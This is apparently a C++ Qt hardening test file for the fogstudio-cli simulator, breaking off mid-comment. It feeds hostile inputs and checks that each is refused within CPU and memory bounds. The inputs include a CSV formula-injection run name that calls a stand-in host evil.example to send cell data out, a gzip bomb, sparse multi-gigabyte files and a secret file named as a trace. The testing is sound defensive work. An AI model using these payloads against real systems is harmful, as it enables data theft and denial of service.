// Hardening round two (issue 30): one data row per class of hostile input the second red team
// found, each with the message expected and bounds on cost. Rows that go through the command
// line run `fogstudio-cli` as a child process (fork + exec: the child gets a file-size limit
// where a row simulates a full disk, and ignores SIGXFSZ so that a write past it fails as on a
// full disk instead of killing it); its CPU time and peak memory come from wait4's rusage
// (CPU time, not wall time: a loaded machine does not inflate it). Bounds: 5 s of CPU and
// 500 MB (the CLI itself starts in about 0.5 s and 175 MB with LibTorch's libraries); 3x
// under AddressSanitizer. Rows that need the engine or the store in detail run in-process.
//
// Classes (the issue's numbering): 1 seek and the store, 2 file contents leak, 3 CSV
// formulas, 4 command-line counts, 5 quadratic paths, 6 finite but absurd values, 7 sizes
// before allocating, 8 full disk, 9 MPI row counts, 10 smaller ones, 11 latency change
// during a transfer, 12 docs that contradicted the engine.

#include "core/scenario/scenario_io.h"
#include "core/store/run_store.h"
#include "core/sweep/captured_run.h"
#include "engine_fixtures.h"
#include "wall_bounds.h"

#include <QCoreApplication>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QtTest>

#include <sqlite3.h>
#include <zlib.h>

#include <chrono>
#include <cmath>
#include <functional>
#include <csignal>
#include <cstdlib>
#include <fstream>
#include <thread>

#include <fcntl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

extern char** environ;

using namespace fog;
using namespace fogtest;

namespace {

void writeFile(const QString& path, const std::string& text) {
    std::ofstream f(path.toStdString(), std::ios::binary);
    f << text;
}

/// A valid timing-only scenario: a server and a group of five phones on a shared link.
std::string tinyScenario(const std::string& extraNodeKeys = "", const std::string& tail = "") {
    return "name: tiny\n"
           "topology:\n"
           "  contention: true\n"
           "  nodes:\n"
           "    - {id: server, tier: cloud, role: aggregator}\n"
           "  groups:\n"
           "    - {id: phones, count: 5, role: trainer, parent: server, link: {bandwidth_up_mbps: 8, "
           "bandwidth_down_mbps: 8}" +
           extraNodeKeys +
           "}\n"
           "data: {dataset: none, samples_per_trainer: 10}\n"
           "model: {kind: none, wire_bytes: 1000}\n"
           "stop: {rounds: 3}\n" +
           tail;
}

struct ChildResult {
    bool started = false;
    bool finished = false;
    int exitCode = -1;
    int signal = 0;
    double cpuSeconds = 0.0;
    double wallSeconds = 0.0;
    long peakRssKb = 0;
    QString output;
};

/// Runs the CLI with `args`; `fileSizeLimit` > 0 caps every file it writes (RLIMIT_FSIZE,
/// SIGXFSZ ignored: writes past it fail with EFBIG, as on a full disk); `env` entries
/// (NAME=VALUE) are added to the environment. Killed after `timeoutS` of wall time.
ChildResult runCli(const QStringList& args, const QString& outFile, long long fileSizeLimit = 0,
                   const QStringList& env = {}, double timeoutS = 120.0) {
    ChildResult r;
    const QString cli = QCoreApplication::applicationDirPath() + "/../app/fogstudio-cli";
    if (!QFileInfo(cli).isExecutable()) {
        r.output = "no executable " + cli + " (build the fogstudio-cli target)";
        return r;
    }
    std::vector<std::string> argStore{cli.toStdString()};
    for (const QString& a : args)
        argStore.push_back(a.toStdString());
    std::vector<char*> argv;
    for (auto& s : argStore)
        argv.push_back(s.data());
    argv.push_back(nullptr);
    std::vector<std::string> envStore;
    for (char** e = environ; *e; ++e)
        envStore.emplace_back(*e);
    envStore.emplace_back("QT_QPA_PLATFORM=offscreen");
    for (const QString& e : env)
        envStore.push_back(e.toStdString());
    std::vector<char*> envp;
    for (auto& s : envStore)
        envp.push_back(s.data());
    envp.push_back(nullptr);
    // Output through a pipe, not a file: the file-size limit must not cut what it says.
    int pipeFds[2];
    if (::pipe(pipeFds) != 0) {
        r.output = "pipe failed";
        return r;
    }
    const auto start = std::chrono::steady_clock::now();
    const pid_t pid = fork();
    if (pid < 0) {
        r.output = "fork failed";
        return r;
    }
    if (pid == 0) {
        // The child: only async-signal-safe calls until exec.
        ::close(pipeFds[0]);
        ::dup2(pipeFds[1], 1);
        ::dup2(pipeFds[1], 2);
        ::close(pipeFds[1]);
        if (fileSizeLimit > 0) {
            struct rlimit lim {};
            lim.rlim_cur = lim.rlim_max = static_cast<rlim_t>(fileSizeLimit);
            ::setrlimit(RLIMIT_FSIZE, &lim);
            ::signal(SIGXFSZ, SIG_IGN); // kept across exec: a write past the limit fails with EFBIG
        }
        ::execve(argv[0], argv.data(), envp.data());
        _exit(127);
    }
    r.started = true;
    ::close(pipeFds[1]);
    ::fcntl(pipeFds[0], F_SETFL, O_NONBLOCK);
    QByteArray captured;
    auto drain = [&] {
        char buf[65536];
        for (ssize_t n; (n = ::read(pipeFds[0], buf, sizeof buf)) > 0;)
            if (captured.size() < (4 << 20)) captured.append(buf, static_cast<int>(n));
    };
    int status = 0;
    struct rusage usage {};
    for (;;) {
        drain();
        const pid_t done = wait4(pid, &status, WNOHANG, &usage);
        r.wallSeconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
        if (done == pid) {
            r.finished = true;
            break;
        }
        if (r.wallSeconds > timeoutS) {
            kill(pid, SIGKILL);
            wait4(pid, &status, 0, &usage);
            break;
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    r.exitCode = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    r.signal = WIFSIGNALED(status) ? WTERMSIG(status) : 0;
    r.peakRssKb = usage.ru_maxrss;
    r.cpuSeconds = usage.ru_utime.tv_sec + usage.ru_utime.tv_usec * 1e-6 + usage.ru_stime.tv_sec +
                   usage.ru_stime.tv_usec * 1e-6;
    drain();
    ::close(pipeFds[0]);
    r.output = QString::fromUtf8(captured);
    QFile f(outFile); // kept beside the row's files, for a look after a failure
    if (f.open(QIODevice::WriteOnly)) f.write(captured);
    return r;
}

/// A pid that is certainly gone: a child that exited and was reaped.
qint64 deadPid() {
    const pid_t pid = fork();
    if (pid == 0) _exit(0);
    int status = 0;
    waitpid(pid, &status, 0);
    return pid;
}

void sql(const QString& db, const std::string& statement) {
    sqlite3* h = nullptr;
    QCOMPARE(sqlite3_open(db.toStdString().c_str(), &h), SQLITE_OK);
    char* err = nullptr;
    const int rc = sqlite3_exec(h, statement.c_str(), nullptr, nullptr, &err);
    const std::string why = err ? err : "";
    sqlite3_free(err);
    sqlite3_close(h);
    QVERIFY2(rc == SQLITE_OK, why.c_str());
}

/// A run stored with one metric row: named `name`, its scenario `yaml`.
std::int64_t storeRun(const QString& db, const std::string& name, const std::string& yaml) {
    RunStore store(db.toStdString());
    NewRun meta;
    meta.name = name;
    meta.scenarioYaml = yaml;
    const std::int64_t id = store.beginRun(meta);
    AggregationRecord r;
    r.round = 1;
    r.time = 1.0;
    r.aggregator = "server";
    store.appendMetrics(id, {r});
    RunSummary s;
    s.status = RunStatus::Finished;
    s.rounds = 1;
    s.virtualTime = 1.0;
    store.finishRun(id, s, RowCounts{1, 0, 0, 0});
    return id;
}

/// gzip-compressed bytes to `path` (streamed: `fill` is called until it returns 0).
void writeGzip(const QString& path, const std::function<std::size_t(std::vector<unsigned char>&)>& fill) {
    gzFile g = gzopen(path.toStdString().c_str(), "wb9");
    QVERIFY(g);
    std::vector<unsigned char> buf;
    for (std::size_t n; (n = fill(buf)) > 0;)
        QCOMPARE(gzwrite(g, buf.data(), static_cast<unsigned>(n)), static_cast<int>(n));
    gzclose(g);
}

void be32(std::vector<unsigned char>& b, std::uint32_t v) {
    for (int k = 3; k >= 0; --k)
        b.push_back(static_cast<unsigned char>(v >> (8 * k)));
}

/// An IDX pair of `count` images of 16x16 zeros (labels 0, 1, 0, 1, ...), gzip-compressed.
void writeIdxPair(const QString& images, const QString& labels, std::uint32_t count) {
    std::uint64_t left = std::uint64_t(count) * 256;
    bool header = true;
    writeGzip(images, [&](std::vector<unsigned char>& b) -> std::size_t {
        b.clear();
        if (header) {
            header = false;
            be32(b, 0x00000803), be32(b, count), be32(b, 16), be32(b, 16);
            return b.size();
        }
        const std::size_t n = static_cast<std::size_t>(std::min<std::uint64_t>(left, 1 << 20));
        b.assign(n, 0);
        left -= n;
        return n;
    });
    header = true;
    left = count;
    writeGzip(labels, [&](std::vector<unsigned char>& b) -> std::size_t {
        b.clear();
        if (header) {
            header = false;
            be32(b, 0x00000801), be32(b, count);
            return b.size();
        }
        const std::size_t n = static_cast<std::size_t>(std::min<std::uint64_t>(left, 1 << 20));
        b.resize(n);
        for (std::size_t k = 0; k < n; ++k)
            b[k] = static_cast<unsigned char>((count - left + k) & 1);
        left -= n;
        return n;
    });
}

const char* const kSecret = "SECRET-FIRST-LINE root:x:0:0:the password file's first line";

/// Builds what row `kind` needs in `dir`; returns false (with a QFAIL) when it cannot.
void prepare(const QString& kind, const QDir& dir) {
    const QString d = dir.path();
    writeFile(d + "/tiny.yaml", tinyScenario());
    writeFile(d + "/secret.txt", std::string(kSecret) + "\nsecond line\n");
    const std::string cluster = std::string(FOG_SOURCE_DIR) + "/presets/tapfinger-edge-cluster.yaml";
    if (kind == "seek-db" || kind == "full-disk-db") {
        // A database with one finished run and one killed mid-run (its process is gone).
        storeRun(d + "/runs.db", "finished run", tinyScenario());
        const std::int64_t killed = storeRun(d + "/runs.db", "killed run", tinyScenario());
        sql(d + "/runs.db", "UPDATE runs SET status = 'running', ended_at = NULL, pid = " +
                                std::to_string(deadPid()) + " WHERE id = " + std::to_string(killed));
        // Checkpointed and closed: no write-ahead log left, as after a clean exit.
        sql(d + "/runs.db", "PRAGMA wal_checkpoint(TRUNCATE)");
    }
    if (kind == "price-trace-secret")
        writeFile(d + "/trace.yaml", tinyScenario(", price_trace: '" + d.toStdString() + "/secret.txt'"));
    if (kind == "plain-text-6mb") writeFile(d + "/plain.yaml", std::string(6 << 20, 'x') + "\n");
    if (kind == "stored-run-names-local-file") {
        // A database received from someone else: its stored scenario names a local file.
        storeRun(d + "/runs.db", "received",
                 tinyScenario(", price_trace: '" + d.toStdString() + "/secret.txt'"));
    }
    if (kind == "csv-formula-names") {
        storeRun(d + "/runs.db", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", tinyScenario());
        storeRun(d + "/runs.db", "@SUM(1+1)", tinyScenario());
    }
    if (kind == "variants-1000" || kind == "variants-10001") {
        std::string t = tinyScenario();
        t += "variants:\n";
        const int n = kind == "variants-1000" ? 1000 : 10001;
        for (int i = 0; i < n; ++i)
            t += "  - {name: v" + std::to_string(i) + ", set: {stop.rounds: " + std::to_string(1 + i % 50) + "}}\n";
        writeFile(d + "/variants.yaml", t);
    }
    if (kind == "vary-10000") {
        // The documented most, 10,000 values (40 s before; the issue's 2,000 took 18.7 s): one
        // load of the already checked copy per value, about 2.5 s of CPU with the CLI's 0.5 s
        // start-up on the 2-core machine at load 10.
        std::string t = tinyScenario() + "vary:\n  stop.rounds: [";
        for (int i = 1; i <= 10000; ++i)
            t += (i > 1 ? ", " : "") + std::to_string(i);
        writeFile(d + "/vary.yaml", t + "]\n");
    }
    if (kind == "absurd-latency")
        writeFile(d + "/absurd.yaml", tinyScenario().replace(tinyScenario().find("bandwidth_down_mbps: 8"),
                                                             22, "bandwidth_down_mbps: 8, latency_ms: 1e305"));
    if (kind == "absurd-wire-bytes") {
        std::string t = tinyScenario();
        t.replace(t.find("wire_bytes: 1000"), 16, "wire_bytes: 1e300");
        writeFile(d + "/absurd.yaml", t);
    }
    if (kind == "absurd-price") writeFile(d + "/absurd.yaml", tinyScenario(", price_per_hour: 1e307"));
    if (kind == "policy-fifo") QCOMPARE(mkfifo((d + "/policy.pt").toStdString().c_str(), 0600), 0);
    if (kind == "policy-sparse" || kind == "arrivals-sparse" || kind == "csv-sparse") {
        const QString f = d + (kind == "policy-sparse" ? "/policy.pt" : kind == "csv-sparse" ? "/train.csv" : "/arrivals.csv");
        const int fd = ::open(f.toStdString().c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
        QVERIFY(fd >= 0);
        // 2 GiB of holes (1 GiB for the CSV: the most a CSV data file may have)
        QCOMPARE(::ftruncate(fd, kind == "csv-sparse" ? off_t(1) << 30 : off_t(2) << 30), 0);
        ::close(fd);
        if (kind == "csv-sparse") {
            writeFile(d + "/test.csv", "0,1\n1,2\n");
            writeFile(d + "/csv.yaml", "name: csv\ntopology:\n  nodes:\n    - {id: server, tier: cloud, role: aggregator}\n"
                                      "    - {id: w0, role: trainer, parent: server}\n"
                                      "data: {dataset: csv, train: train.csv, test: test.csv}\n"
                                      "model: {kind: logreg}\nstop: {rounds: 1}\n");
        }
    }
    if (kind == "csv-short-rows") {
        // 72 MB of the shortest rows a CSV data file can have ("0,1"): 18.9 million samples,
        // 226 MB as labels and floats (over 400 MB with the vectors' growth) and 151 MB as a
        // shuffle of their indices; the run keeps 100 of them, and holds only those.
        std::string block;
        for (int i = 0; i < (1 << 18); ++i)
            block += i % 2 ? "1,2\n" : "0,1\n";
        std::ofstream f((d + "/train.csv").toStdString(), std::ios::binary);
        for (int i = 0; i < 72; ++i)
            f << block;
        f.close();
        writeFile(d + "/test.csv", "0,1\n1,2\n");
        writeFile(d + "/csv.yaml", "name: csv\ntopology:\n  nodes:\n    - {id: server, tier: cloud, role: aggregator}\n"
                                  "    - {id: w0, role: trainer, parent: server}\n"
                                  "data: {dataset: csv, train: train.csv, test: test.csv, max_train_samples: 100}\n"
                                  "model: {kind: logreg}\nstop: {rounds: 1}\n");
    }
    if (kind == "idx-gzip-bomb") {
        // 2^20 images of 16x16 (2^28 pixels, the documented limit): 261 KB of gzip, 1 GiB
        // as floats; the run keeps 100 of them.
        writeIdxPair(d + "/train-images.gz", d + "/train-labels.gz", 1u << 20);
        writeIdxPair(d + "/test-images.gz", d + "/test-labels.gz", 10);
        writeFile(d + "/idx.yaml",
                  "name: idx\n"
                  "topology:\n  nodes:\n    - {id: server, tier: cloud, role: aggregator}\n"
                  "    - {id: w0, role: trainer, parent: server}\n    - {id: w1, role: trainer, parent: server}\n"
                  "data: {dataset: idx, train: train-images.gz, train_labels: train-labels.gz, test: test-images.gz, "
                  "test_labels: test-labels.gz, max_train_samples: 100, max_test_samples: 10}\n"
                  "model: {kind: logreg}\n"
                  "stop: {rounds: 1}\n");
    }
    if (kind == "snapshot-count-corrupted") {
        // A finished run with snapshots (made by the CLI), then their parameter counts
        // corrupted: a fork would allocate 2.4 GB for 600,000,000 floats.
        const ChildResult made = runCli({"run", d + "/tiny.yaml", "--db", d + "/runs.db", "--set", "stop.rounds=300",
                                         "--snapshot-every", "1", "--quiet"},
                                        d + "/made.txt");
        QVERIFY2(made.exitCode == 0, qPrintable(made.output));
        sql(d + "/runs.db", "UPDATE snapshots SET parameters = 600000000");
    }
    if (kind == "schema-missing-column") {
        storeRun(d + "/runs.db", "a run", tinyScenario());
        sql(d + "/runs.db", "ALTER TABLE runs DROP COLUMN notes");
    }
    if (kind == "unterminated-quote")
        writeFile(d + "/quote.yaml", "name: \"tiny\ntopology:\n  nodes:\n    - {id: server, role: aggregator}\n");
    if (kind == "remove-too-many")
        writeFile(d + "/remove.yaml", tinyScenario("", "events:\n  - {at: 10, remove: {group: phones, count: 3}}\n"
                                                       "  - {at: 20, remove: {group: phones, count: 3}}\n"));
    if (kind == "id-with-newline") {
        std::string t = tinyScenario();
        t.replace(t.find("{id: server"), 11, "{id: \"ser\\nver\"");
        t.replace(t.find("parent: server"), 14, "parent: \"ser\\nver\"");
        writeFile(d + "/newline.yaml", t);
    }
    if (kind == "million-row-trace") {
        std::string csv = "time_s,value\n";
        csv.reserve(5 << 20);
        for (int i = 0; i < 1000000; ++i)
            csv += "x,y\n";
        writeFile(d + "/bad.csv", csv);
        writeFile(d + "/trace.yaml", tinyScenario(", price_trace: bad.csv"));
    }
    if (kind == "deep-nesting") {
        std::string t = "name: deep\nextra:\n";
        for (int i = 0; i < 2000; ++i)
            t += std::string(static_cast<std::size_t>(2 * i + 2), ' ') + "k:\n";
        writeFile(d + "/deep.yaml", t);
    }
    (void)cluster;
}

} // namespace

class TestHardening2 : public QObject {
    Q_OBJECT

  private Q_SLOTS:
    void commandLine_data();
    void commandLine();
    void engineStoreAndDocs_data();
    void engineStoreAndDocs();
};

// --- through the command line ----------------------------------------------------------------

void TestHardening2::commandLine_data() {
    QTest::addColumn<QString>("kind");        // what prepare() builds
    QTest::addColumn<QStringList>("args");    // '@' stands for the row's folder
    QTest::addColumn<QString>("expected");    // one of the '|'-separated texts must appear
    QTest::addColumn<QString>("forbidden");   // must not appear (a file's contents); "" none
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<qlonglong>("fileSizeLimit"); // > 0: a full disk after that many bytes
    QTest::addColumn<QStringList>("env");
    const QString cluster = QString(FOG_SOURCE_DIR) + "/presets/tapfinger-edge-cluster.yaml";
    // No file may grow: every write to the database fails, as on a full disk. (The test holds
    // a connection open meanwhile, so SQLite's shared-memory file already has its size; the
    // child's output goes through a pipe.)
    const qlonglong fullDisk = 1;
    auto row = [](const char* name, const QString& kind, const QStringList& args, const QString& expected,
                  const QString& forbidden, int exitCode, qlonglong fsize = 0, const QStringList& env = {}) {
        QTest::newRow(name) << kind << args << expected << forbidden << exitCode << fsize << env;
    };
    const QStringList seek{"seek", "@/tiny.yaml", "--objective", "min:cost", "--param", "stop.rounds=int:1..3",
                           "--repeat", "1", "--db", "@/runs.db", "--quiet"};

    // 1. seek and the store
    row("1 seek on a read-only database", "seek-db", seek, "read-only", "", 1, 0, {"FOGSTUDIO_DB_READONLY=1"});
    row("1 seek on a full disk", "seek-db", seek, "full|could not be written|not stored completely", "Best:", 1,
        fullDisk);
    // 2. file contents never leak
    row("2 a system file named as a price trace", "price-trace-secret", {"validate", "@/trace.yaml"},
        "is not a trace: its first line must be the header", "SECRET", 1);
    row("2 a system file named as an arrival trace", "",
        {"validate", cluster, "--set", "arrivals={kind: trace, file: '@/secret.txt'}"},
        "is not an arrival trace: its first line must be the header", "SECRET", 1);
    row("2 a 6 MB plain text file validated", "plain-text-6mb", {"validate", "@/plain.yaml"},
        "must be a map of key: value, got 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx...' (6291456 bytes)",
        QString(41, 'x') , 1);
    row("2 a received database's run naming a local file, re-run", "stored-run-names-local-file",
        {"runs", "rerun", "1", "--db", "@/runs.db"}, "is not a trace", "SECRET", 1);
    row("2 a received database's run naming a local file, exported as a report", "stored-run-names-local-file",
        {"export", "report", "1", "--db", "@/runs.db", "--out", "@/out-report.html"}, "out-report.html", "SECRET",
        0);
    // 3. CSV exports
    row("3 CSV export of run names that are formulas", "csv-formula-names",
        {"export", "summary", "--db", "@/runs.db", "--format", "csv"}, "\"'=HYPERLINK(", ",=HYPERLINK", 0);
    row("3 CSV export: '@' formula", "csv-formula-names",
        {"export", "metrics", "--db", "@/runs.db", "--format", "csv"}, "\"'@SUM(1+1)\"", ",@SUM", 0);
    // 4. command-line counts get the file format's caps
    row("4 run --repeat 1000000000", "", {"run", "@/tiny.yaml", "--repeat", "1000000000", "--db", "@/runs.db"},
        "--repeat must be <= 1000 (the cap of repeats: in a scenario file), got 1000000000", "", 2);
    row("4 sweep --parallel 100000", "",
        {"sweep", "@/tiny.yaml", "--vary", "stop.rounds=1,2", "--parallel", "100000", "--db", "@/runs.db"},
        "--parallel must be <= 256, got 100000", "", 2);
    {
        QStringList nine{"sweep", "@/tiny.yaml", "--db", "@/runs.db"};
        for (int k = 0; k < 9; ++k)
            nine << "--vary" << "stop.rounds=1,2,3,4,5,6,7,8,9,10";
        row("4 sweep with nine --vary of ten values", "", nine,
            "--vary: gives 1000000000 configurations (10 x 10 x 10 x 10 x 10 x 10 x 10 x 10 x 10 values), more "
            "than 10000",
            "", 1);
    }
    row("4 seek --trials 1000000", "", {"seek", "@/tiny.yaml", "--objective", "min:cost", "--param",
                                        "stop.rounds=int:1..3", "--trials", "1000000", "--db", "@/runs.db"},
        "--trials must be <= 10000", "", 2);
    // 5. quadratic paths
    row("5 1,000 variants validate", "variants-1000", {"validate", "@/variants.yaml"}, ": ok (tiny)", "", 0);
    row("5 10,001 variants refused up front", "variants-10001", {"validate", "@/variants.yaml"},
        "holds 10001 variants; at most 10000 configurations are run from one file", "", 1);
    row("5 vary over the documented 10,000 values", "vary-10000", {"validate", "@/vary.yaml"}, ": ok (tiny)", "", 0);
    row("5 a --set path of 10,000 parts", "",
        {"validate", "@/tiny.yaml", "--set", QString("a.").repeated(9999) + "a=1"}, "unknown key 'a'", "", 1);
    // 6. finite but absurd values
    row("6 latency_ms 1e305", "absurd-latency", {"validate", "@/absurd.yaml"},
        "topology.groups[0].link.latency_ms must be in [0, 3600000], got 1e+305", "", 1);
    row("6 wire_bytes 1e300", "absurd-wire-bytes", {"validate", "@/absurd.yaml"},
        "model.wire_bytes must be in [0, 1000000000000000], got 1e+300", "", 1);
    row("6 price 1e307", "absurd-price", {"validate", "@/absurd.yaml"},
        "topology.groups[0].price_per_hour must be", "", 1);
    row("6 an event's latency 1e305", "", {"validate", "@/tiny.yaml", "--event", "at 1: link phones latency=1e305"},
        "latency_ms must be in [0, 3600000]", "", 1);
    // 7. sizes checked before allocating
    row("7 /dev/zero as a learned policy", "", {"cluster", "run", cluster, "--scheduler", "learned", "--policy",
                                                "/dev/zero", "--no-store", "--quiet"},
        "/dev/zero: cannot open the cluster policy file: is a device", "", 1);
    row("7 a sparse 2 GiB learned policy", "policy-sparse",
        {"cluster", "run", cluster, "--scheduler", "learned", "--policy", "@/policy.pt", "--no-store", "--quiet"},
        "the file has 2147483648 bytes; a policy has at most 67108864", "", 1);
    row("7 a FIFO as a learned policy", "policy-fifo",
        {"cluster", "run", cluster, "--scheduler", "learned", "--policy", "@/policy.pt", "--no-store", "--quiet"},
        "is a FIFO", "", 1);
    row("7 arrivals.tasks 1e9", "", {"validate", cluster, "--set", "arrivals.tasks=1000000000"},
        "arrivals.tasks must be <= 1000000, got 1000000000", "", 1);
    row("7 a sparse 2 GiB arrival trace", "arrivals-sparse",
        {"validate", cluster, "--set", "arrivals={kind: trace, file: '@/arrivals.csv'}"},
        "arrival traces are limited to 67108864 bytes; this file has 2147483648", "", 1);
    row("7 a sparse 1 GiB CSV data file", "csv-sparse", {"validate", "@/csv.yaml"},
        "a line longer than 16777216 bytes: not a CSV data file", "", 1);
    row("7 a CSV of 18.9 million short rows with max_train_samples 100", "csv-short-rows",
        {"run", "@/csv.yaml", "--no-store", "--quiet", "--threads", "1"}, "round|rounds", "", 0);
    row("7 a 261 KB gzip IDX with max_train_samples 100", "idx-gzip-bomb",
        {"run", "@/idx.yaml", "--no-store", "--quiet", "--threads", "1"}, "round|rounds", "", 0);
    row("7 a stored snapshot's parameter count corrupted, forked", "snapshot-count-corrupted",
        {"fork", "1", "--at", "2", "--db", "@/runs.db", "--quiet"}, "it claims 600000000 parameters, more than its",
        "", 1);
    // 8. a full disk does not lock users out
    row("8 runs list on a full disk", "full-disk-db", {"runs", "list", "--db", "@/runs.db"}, "killed run", "", 0,
        fullDisk);
    row("8 runs show on a full disk", "full-disk-db", {"runs", "show", "2", "--db", "@/runs.db"}, "interrupted", "",
        0, fullDisk);
    row("8 runs tag on a full disk says why", "full-disk-db", {"runs", "tag", "1", "study", "--db", "@/runs.db"},
        "full|could not be written", "", 1, fullDisk);
    // 10. smaller ones
    row("10 an unterminated quote", "unterminated-quote", {"validate", "@/quote.yaml"}, "quote.yaml:1:", "", 1);
    row("10 db check on a file the other commands refuse", "schema-missing-column",
        {"db", "check", "--db", "@/runs.db"}, "schema: table runs lacks column(s) notes", "", 1);
    row("10 cluster train checks --out first", "",
        {"cluster", "train", cluster, "--episodes", "1000000", "--out", "@", "--quiet"},
        "is a folder, not a file", "", 1);
    row("10 remove events taking more members than exist", "remove-too-many", {"validate", "@/remove.yaml"},
        "the remove events before this one take 3", "", 1);
    row("10 a key given twice in --event", "",
        {"validate", "@/tiny.yaml", "--event", "at 1: link phones up=2 up=3"}, "'bandwidth_up_mbps' is given twice",
        "", 1);
    row("10 --at given twice on fork", "", {"fork", "1", "--at", "1", "--at", "2", "--db", "@/runs.db"},
        "--at is given twice", "", 2);
    row("10 a node id with a newline", "id-with-newline", {"validate", "@/newline.yaml"},
        "must not contain control characters (a newline, a tab, NUL), got 'ser\\x0aver'", "", 1);
    row("10 a bad 1,000,000-row trace", "million-row-trace", {"validate", "@/trace.yaml"},
        "only the first 50 are listed", "", 1);
    row("10 deeply nested YAML", "deep-nesting", {"validate", "@/deep.yaml"}, "deep.yaml:", "bad file", 1);
    row("10 validate --event that run refuses", "",
        {"validate", "@/tiny.yaml", "--event", "at 100: node phones-0 price=abc"}, "must be a number", "", 1);
    // 12. docs and help that contradicted the engine
    row("12 schema help: events and traces are applied", "", {"schema", "--markdown"}, "`price_trace`",
        "not yet applied", 0);
}

void TestHardening2::commandLine() {
    QFETCH(QString, kind);
    QFETCH(QStringList, args);
    QFETCH(QString, expected);
    QFETCH(QString, forbidden);
    QFETCH(int, exitCode);
    QFETCH(qlonglong, fileSizeLimit);
    QFETCH(QStringList, env);
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    prepare(kind, QDir(dir.path()));
    if (QTest::currentTestFailed()) return;
    for (QString& a : args)
        a.replace("@", dir.path());
    // On a "full disk" another program keeps the database open (so its -shm and -wal files
    // exist and need not grow), as the studio would: a plain SQLite connection, which marks
    // nothing interrupted.
    sqlite3* holder = nullptr;
    if (fileSizeLimit > 0) {
        QCOMPARE(sqlite3_open(dir.filePath("runs.db").toStdString().c_str(), &holder), SQLITE_OK);
        QCOMPARE(sqlite3_exec(holder, "SELECT count(*) FROM runs", nullptr, nullptr, nullptr), SQLITE_OK);
    }
    const ChildResult r = runCli(args, dir.filePath("out.txt"), fileSizeLimit, env);
    if (holder) sqlite3_close(holder);
    QVERIFY2(r.started, qPrintable(r.output));
    QVERIFY2(r.finished, qPrintable(QString("still running after %1 s; %2").arg(r.wallSeconds).arg(r.output.left(2000))));
    qInfo("%s: exit %d, %.2f s CPU, %.2f s wall, %ld MB peak RSS", QTest::currentDataTag(), r.exitCode, r.cpuSeconds,
          r.wallSeconds, r.peakRssKb / 1024);
    bool found = false;
    for (const QString& e : expected.split('|'))
        found = found || r.output.contains(e);
    QVERIFY2(found, qPrintable("expected: " + expected + "\ngot:\n" + r.output.left(3000)));
    if (!forbidden.isEmpty()) {
        QVERIFY2(!r.output.contains(forbidden), qPrintable(r.output.left(3000)));
        // Nor in what it wrote (a report, an export): every out-* file of the row's folder.
        for (const QFileInfo& f : QDir(dir.path()).entryInfoList({"out-*"}, QDir::Files)) {
            QFile written(f.filePath());
            QVERIFY(written.open(QIODevice::ReadOnly));
            QVERIFY2(!written.readAll().contains(forbidden.toUtf8()), qPrintable(f.fileName() + " quotes the file"));
        }
    }
    QVERIFY2(r.signal == 0, qPrintable(QString("killed by signal %1: %2").arg(r.signal).arg(r.output.left(2000))));
    QCOMPARE(r.exitCode, exitCode);
    // Bounded output: a bad input never prints megabytes.
    QVERIFY2(r.output.size() < 64 * 1024, qPrintable(QString("%1 bytes of output").arg(r.output.size())));
#if defined(__SANITIZE_ADDRESS__)
    constexpr double kCost = 3.0;
#else
    constexpr double kCost = 1.0;
#endif
    // The documented most, 10,000 vary values, is 10,000 loads of the checked copy: 4.9-5.4 s
    // of CPU on the 2-core AMD EPYC of 2026-12-03 at load 2 (main's binary and the merged
    // tree alike), 2.5 s on the machine it was written on. Its bound is 15 s: still far below
    // the quadratic path this row guards against (40 s), and not a race with the CPU.
    const double cpuBound = (kind == "vary-10000" ? 15.0 : 5.0) * kCost;
    QVERIFY2(r.cpuSeconds < cpuBound, qPrintable(QString("took %1 s of CPU").arg(r.cpuSeconds)));
    QVERIFY2(r.peakRssKb < static_cast<long>(500 * 1024 * kCost),
             qPrintable(QString("peak RSS %1 MB").arg(r.peakRssKb / 1024)));
}

// --- in-process: the engine, the store, the docs ---------------------------------------------

void TestHardening2::engineStoreAndDocs_data() {
    QTest::addColumn<QString>("kind");
    QTest::newRow("9 a run computed on another rank is stored with its produced rows") << "captured-run";
    QTest::newRow("11 latency raised during a shared download (hand-computed timeline)") << "latency-timeline";
    QTest::newRow("12 docs and schema help: events and traces are applied") << "docs-applied";
    QTest::newRow("12 network.md and emulator.md agree on a cut serverless job") << "docs-serverless";
}

void TestHardening2::engineStoreAndDocs() {
    QFETCH(QString, kind);
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    if (kind == "captured-run") {
        // What rank 0 does with a run another rank computed (sweep_mpi.cpp): decode it and
        // store it. Its produced-row counts are recorded, so `db check` verifies it, and
        // finds it when rows are missing.
        Scenario s = loadScenarioText(tinyScenario(), "tiny.yaml");
        const CapturedRun run = decodeCaptured(encodeCaptured(captureRun(s, 1)));
        QVERIFY(!run.records.empty());
        const QString db = dir.filePath("runs.db");
        std::int64_t id = 0;
        {
            RunStore store(db.toStdString());
            NewRun meta;
            meta.name = "from rank 1";
            id = storeCaptured(store, meta, s, 1, run);
            const auto stored = store.run(id);
            QVERIFY(stored.has_value());
            QVERIFY2(stored->produced.has_value(), "no produced-row counts");
            QCOMPARE(stored->produced->metrics, static_cast<std::int64_t>(run.records.size()));
            QCOMPARE(stored->produced->intervals, static_cast<std::int64_t>(run.intervals.size()));
            QCOMPARE(stored->produced->events, static_cast<std::int64_t>(run.events.size()));
        }
        DbCheck check = checkDatabase(db.toStdString());
        QVERIFY2(check.ok, qPrintable(QString::fromStdString(check.lines.empty() ? "" : check.lines.back())));
        sql(db, "DELETE FROM metrics WHERE run_id = " + std::to_string(id) + " AND round = 1");
        check = checkDatabase(db.toStdString());
        QVERIFY(!check.ok);
        bool named = false;
        for (const auto& l : check.lines)
            named = named || QString::fromStdString(l).startsWith(QString("run %1: ").arg(id));
        QVERIFY2(named, "db check does not name the run with missing rows");
    } else if (kind == "latency-timeline") {
        // Two phones share an 8 Mbit/s cell; the model and the update are 1 MB (1 s alone, 2 s
